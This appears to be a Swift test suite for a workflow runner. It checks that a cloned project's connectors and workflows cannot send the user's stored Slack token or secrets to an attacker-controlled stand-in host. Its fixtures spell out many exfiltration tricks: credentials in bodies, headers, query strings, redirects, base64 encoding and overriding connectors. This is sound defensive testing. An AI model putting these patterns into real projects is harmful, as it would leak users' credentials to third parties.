import FlowCore
import FlowTestKit
import Testing

/// A project from elsewhere, with connectors and workflows of its own, tries to have the user's credentials sent to its
/// author. Nothing of them may arrive, and each refusal names the command that would allow it.
@Suite struct ClonedProjectTests {
    private static let token = "xoxb-fake-clone-0123456789"
    private static let raw = "fake-raw-clone-0123456789"

    struct Attack: Sendable, CustomTestStringConvertible {
        var name: String
        /// `FRIEND` and `FOE` stand for the servers.
        var files: [String: String]
        var command = "flowctl run steal.yaml"
        /// In what is said.
        var says: String

        var testDescription: String { name }
    }

    private static func connector(
        _ name: String, base: String,
        auth: String = "{ slack_bot: { type: bearer, fields: { bot_token: { secret: true } } } }",
        more: String = "", operation: String
    ) -> String {
        """
        connector: \(name)
        override: true
        base: \(base)
        \(more)
        \(auth.isEmpty ? "" : "auth: \(auth)")
        operations:
          send:
            summary: Send it.
            effect: read
        \(operation)
        """
    }

    /// The first request is where the token may go, the second is said to go without it.
    private static func twoSteps(_ request: String, _ more: String = "") -> String {
        connector(
            "slack", base: "FRIEND",
            operation: """
                    steps:
                      first: { request: GET x }
                      second: { request: '\(request)', auth: none\(more) }
                """)
    }

    private static func step(_ step: String) -> String { "name: steal\nsteps:\n  - \(step)\n" }

    private static let uses = step("{ uses: slack.send, credential: team }")
    private static let refused = "credential \"team\" of type slack_bot was not made for FOE"
    private static let command = "flowctl credentials allow team --host FOE"

    private static let byConnector = [
        Attack(
            name: "a connector that stands in for an embedded one",
            files: [
                "connectors/slack.yaml": connector("slack", base: "FOE", operation: "    request: GET x"),
                "steal.yaml": uses,
            ], says: refused),
        Attack(
            name: "a connector of another name that takes the same type",
            files: [
                "connectors/mine.yaml": connector("mine", base: "FOE", operation: "    request: GET x"),
                "steal.yaml": step("{ uses: mine.send, credential: team }"),
            ], says: command),
        Attack(
            name: "a further host of the connector",
            files: [
                "connectors/slack.yaml": connector(
                    "slack", base: "FRIEND", more: "hosts: [FOE]",
                    operation: "    request: GET ${{ \"FOE/\" + \"x\" }}"),
                "steal.yaml": uses,
            ], says: command),
        Attack(
            name: "a base of the type of credential",
            files: [
                "connectors/slack.yaml": connector(
                    "slack", base: "FRIEND",
                    auth: "{ slack_bot: { type: bearer, base: FOE, fields: { bot_token: { secret: true } } } }",
                    operation: "    request: GET x"),
                "steal.yaml": uses,
            ], says: command),
        Attack(
            name: "the next page at another host",
            files: [
                "connectors/slack.yaml": connector(
                    "slack", base: "FRIEND", more: "hosts: [FOE]",
                    operation: """
                            request: GET pages
                            paginate: { by: next_url, items: "${{ body.items }}", url: "${{ body.next }}" }
                        """),
                "steal.yaml": uses,
            ], says: command),
        Attack(
            name: "an address that is made of the token",
            files: [
                "connectors/slack.yaml": twoSteps("GET ${{ \"FOE/\" + credential.bot_token }}"), "steal.yaml": uses,
            ], says: "bot_token"),
        Attack(
            name: "a body that holds the token, of a request without it",
            files: [
                "connectors/slack.yaml": twoSteps(
                    "POST ${{ \"FOE/\" + \"x\" }}", ", json: { stolen: \"${{ credential.bot_token }}\" }"),
                "steal.yaml": uses,
            ], says: "bot_token"),
        Attack(
            name: "all there is of the credential",
            files: [
                "connectors/slack.yaml": twoSteps(
                    "POST ${{ \"FOE/\" + \"x\" }}", ", json: { stolen: \"${{ credential }}\" }"),
                "steal.yaml": uses,
            ], says: "succeeded"),
        Attack(
            name: "a connector that recognises nobody, but reads the credential",
            files: [
                "connectors/slack.yaml": connector(
                    "slack", base: "FOE", auth: "",
                    operation: "    request: POST x\n    json: { stolen: \"${{ credential.bot_token }}\" }"),
                "steal.yaml": uses,
            ], says: "\"slack.send\" takes no credential"),
        Attack(
            name: "a redirect",
            files: ["steal.yaml": step("{ uses: http.request, credential: team, with: { url: \"FRIEND/away\" } }")],
            says: "succeeded"),
        Attack(
            name: "a redirect of a body that holds a secret",
            files: [
                "steal.yaml": step(
                    "{ uses: http.request, with: { url: \"FRIEND/away\", method: POST, json: { a: \"${{ secrets.team }}\" } } }"
                )
            ], says: "redirects to FOE, where the secret in the request's body may not go"),
    ]

    private static let byRequest = [
        Attack(
            name: "a request of its own",
            files: ["steal.yaml": step("{ uses: http.request, credential: team, with: { url: \"FOE/x\" } }")],
            says: refused),
        Attack(
            name: "an address that an expression builds",
            files: [
                "steal.yaml": step(
                    "{ uses: http.request, credential: team, with: { url: \"${{ 'FRIEND'.replace('FRIEND', 'FOE') }}/x\" } }"
                )
            ], says: command),
        Attack(
            name: "another base address on the command line",
            files: ["steal.yaml": step("{ uses: slack.auth_test, credential: team }")],
            command: "flowctl run steal.yaml --base-url FOE", says: command),
        Attack(
            name: "a socket in the server's place",
            files: [
                "steal.yaml": step(
                    "{ uses: http.request, credential: team, with: { url: \"FRIEND/x\", unix_socket: /tmp/foe.sock } }")
            ], says: "\"unix_socket\" can't be given beside a credential"),
        Attack(
            name: "authorities of its own",
            files: [
                "steal.yaml": step(
                    "{ uses: http.request, credential: team, with: { url: \"FRIEND/x\", ca_file: foe.pem } }"),
                "foe.pem": "-----BEGIN CERTIFICATE-----\n",
            ], says: "flowctl credentials edit NAME --set ca_file"),
    ]

    private static let bySecrets =
        [
            "headers: { X-Stolen: \"${{ secrets.team }}\" }", "query: { stolen: \"${{ secrets.team }}\" }",
            "method: POST, json: { stolen: \"${{ secrets.team.bot_token }}\" }",
            "method: POST, body: \"${{ base64.encode(bytes(secrets.team)) }}\"",
            "method: POST, form: { stolen: \"${{ env.STOLEN }}\" }",
            "headers: { X-Stolen: \"${{ env.AGAIN }}\" }",
        ].map { parameter in
            Attack(
                name: "a secret that an expression reads: \(parameter)",
                files: [
                    "steal.yaml": """
                    name: steal
                    env:
                      STOLEN: ${{ secrets.team }}
                      AGAIN: "x${{ env.STOLEN }}"
                    steps:
                      - uses: http.request
                        with: { url: "FOE/x", \(parameter) }
                    """
                ], says: command)
        } + [
            Attack(
                name: "a secret given to a connector of its own",
                files: [
                    "connectors/mine.yaml": connector(
                        "mine", base: "FOE", auth: "",
                        operation: "    request: POST x\n    params: { text: { type: string, help: Text. } }"),
                    "steal.yaml": step("{ uses: mine.send, with: { text: \"${{ secrets.team }}\" } }"),
                ], says: command),
            Attack(
                name: "a secret in an address",
                files: ["steal.yaml": step("{ uses: http.request, with: { url: \"FOE/${{ secrets.team }}\" } }")],
                says: "secrets can't be used in"),
            Attack(
                name: "a secret in an address, by way of env",
                files: [
                    "steal.yaml":
                        "name: steal\nenv: { T: \"${{ secrets.team }}\" }\nsteps:\n  - uses: http.request\n"
                        + "    with: { url: \"FOE/${{ env.T }}\" }\n"
                ], says: "FOE"),
            Attack(
                name: "a secret in a condition",
                files: ["steal.yaml": step("{ run: \"true\", if: \"${{ secrets.team == 'x' }}\" }")],
                says: "secrets can't be used in"),
        ]

    private static func servers() throws -> (friend: FaultServer, foe: FaultServer) {
        let foe = try FaultServer { _ in .json(["ok": true, "items": []]) }
        let friend = try FaultServer { request in
            switch request.path {
            case "/away": .redirect(to: "\(foe.url)/x", status: 307)
            case "/pages": .json(["items": [1], "next": .string("\(foe.url)/pages?page=2")])
            default: .json(["ok": true])
            }
        }
        return (friend, foe)
    }

    private func machine(_ files: [String: String], _ friend: FaultServer, _ foe: FaultServer) async throws -> Machine {
        let machine = try Machine(
            files.reduce(into: [:]) {
                $0["clone/\($1.key)"] = $1.value.replacing("FRIEND", with: friend.url).replacing("FOE", with: foe.url)
            })
        try await machine.makeVault([("team", "slack_bot", ClonedProjectTests.token)], for: friend.url)
        return machine
    }

    /// Nothing the other side got holds the token, in any form that is easily told.
    private func expectNothing(of token: String, at foe: FaultServer) {
        let forms = [token, Base64.encode(Array(token.utf8)), String(token.reversed())]
        for request in foe.requests {
            let all =
                request.target + request.text
                + request.headers.fields.map { "\($0.name): \($0.value)" }.joined(separator: "\n")
            for form in forms { #expect(!all.contains(form), "the secret was sent: \(request.method) \(request.path)") }
        }
    }

    @Test(arguments: byConnector + byRequest + bySecrets) func getsNothing(by attack: Attack) async throws {
        let (friend, foe) = try ClonedProjectTests.servers()
        let machine = try await machine(attack.files, friend, foe)
        let result = try await machine.run(
            "cd clone && " + attack.command.replacing("FOE", with: foe.url))
        let expected = attack.says.replacing("FRIEND", with: friend.url).replacing("FOE", with: foe.url)
        #expect((result.output + result.errors).contains(expected), "\(result.output)\(result.errors)")
        expectNothing(of: ClonedProjectTests.token, at: foe)
        try machine.expectNoTrace(of: ClonedProjectTests.token)
    }

    @Test func credentialsFromTheEnvironmentGoToTheAppOrTheirHostsOnly() async throws {
        let (friend, foe) = try ClonedProjectTests.servers()
        let machine = try await machine(
            [
                "connectors/slack.yaml": ClonedProjectTests.connector(
                    "slack", base: "FOE", operation: "    request: GET x"),
                "steal.yaml": ClonedProjectTests.step("{ uses: slack.send, credential: ci }"),
                "request.yaml": ClonedProjectTests.step(
                    "{ uses: http.request, credential: ci, with: { url: \"FOE/x\" } }"),
            ], friend, foe)
        for (workflow, value) in [
            ("steal.yaml", ClonedProjectTests.token),
            ("request.yaml", "{\"type\":\"bearer\",\"token\":\"\(ClonedProjectTests.token)\"}"),
        ] {
            let result = try await machine.run(
                "cd clone && flowctl run \(workflow)", variables: ["FLOWCTL_CREDENTIAL_CI": value])
            #expect(
                result.errors.contains("list \(foe.url) under \"hosts\" in the JSON of FLOWCTL_CREDENTIAL_CI"),
                "\(result.errors)")
        }
        #expect(foe.connectionCount == 0)
    }

    @Test func whatAProjectsConnectorSaysIsNotTakenForWhatTheUserWants() async throws {
        let (friend, foe) = try ClonedProjectTests.servers()
        let machine = try await machine(
            [
                "connectors/slack.yaml": ClonedProjectTests.connector(
                    "slack", base: "FOE", operation: "    request: GET x")
            ], friend, foe)
        let result = try await machine.run(
            "cd clone && flowctl credentials add mine --type slack_bot --from -", input: ClonedProjectTests.token)
        #expect(
            result.errors == """
                error: "\(machine.home)/clone/connectors/slack.yaml" would have it sent to \(foe.url)
                  hint: add --host \(foe.url) if you trust that

                """)
        #expect(result.exit == 2)
    }

    @Test func anAllowedHostAndAnAllowedProjectServe() async throws {
        let (friend, foe) = try ClonedProjectTests.servers()
        let request = ClonedProjectTests.step("{ uses: http.request, credential: team, with: { url: \"FOE/x\" } }")
        let machine = try await machine(["request.yaml": request], friend, foe)
        let allowed = try await machine.run("flowctl credentials allow team --host \(foe.url) --project clone")
        #expect(allowed.exit == 0, "\(allowed.errors)")
        let result = try await machine.run("flowctl run clone/request.yaml")
        #expect(result.exit == 0, "\(result.errors)")
        #expect(foe.requests.first?.headers["authorization"] == "Bearer \(ClonedProjectTests.token)")
        let copied = try await machine.run(
            "mkdir other && cp clone/request.yaml other/ && flowctl run other/request.yaml")
        #expect(
            copied.errors.contains(
                """
                credential "team" of type slack_bot is not for the workflow "\(machine.home)/other/request.yaml"
                  hint: allow it, if you trust it: flowctl credentials allow team --workflow \(machine.home)/other/request.yaml
                """), "\(copied.errors)")
        let linked = try await machine.run("ln -s ../clone/request.yaml other/link.yaml && flowctl run other/link.yaml")
        #expect(linked.exit == 0, "\(linked.errors)")
        let piped = try await machine.run("flowctl run - <clone/request.yaml")
        #expect(piped.errors.contains("is limited to the workflows of certain files, and this one stands in none"))
        #expect(foe.requests.count == 2)
    }

    @Test func aWorkflowThatIsCalledNeedsALeaveOfItsOwn() async throws {
        let (friend, foe) = try ClonedProjectTests.servers()
        let machine = try await machine(
            [
                "part.yaml": ClonedProjectTests.step(
                    "{ uses: http.request, credential: team, with: { url: \"FRIEND/x\" } }"),
                "raw.yaml": ClonedProjectTests.step(
                    "{ uses: http.request, with: { url: \"FRIEND/x\", headers: { X-A: \"${{ secrets.team }}\" } } }"),
            ], friend, foe)
        try machine.write("name: main\nsteps:\n  - { uses: ../clone/part.yaml }\n", to: "own/main.yaml")
        try machine.write("name: main\nsteps:\n  - { uses: ../clone/raw.yaml }\n", to: "own/raw.yaml")
        _ = try await machine.run("flowctl credentials allow team --project own")
        for workflow in ["main", "raw"] {
            let result = try await machine.run("flowctl run own/\(workflow).yaml")
            #expect(result.errors.contains("is not for the workflow \"\(machine.home)/clone/"), "\(result.errors)")
            #expect(result.exit == 1)
        }
        #expect(friend.connectionCount == 0)
    }

    @Test func aSecretWithoutHostsGoesWhereTheWorkflowSays() async throws {
        let (friend, foe) = try ClonedProjectTests.servers()
        let machine = try await machine(
            [
                "both.yaml": """
                name: both
                env: { TEAM: "${{ secrets.team }}" }
                steps:
                  - uses: http.request
                    with: { url: "FRIEND/x", headers: { X-Free: "${{ secrets.free }}" } }
                  - uses: http.request
                    with: { url: "FOE/x", headers: { X-Free: "${{ secrets.free }}" } }
                  - run: test -n "$TEAM"
                """
            ], friend, foe)
        _ = try await machine.run("flowctl credentials add free --type bearer --from -", input: ClonedProjectTests.raw)
        let result = try await machine.run("flowctl run clone/both.yaml")
        #expect(result.exit == 0, "\(result.errors)")
        #expect(foe.requests.first?.headers["x-free"] == ClonedProjectTests.raw)
    }
}
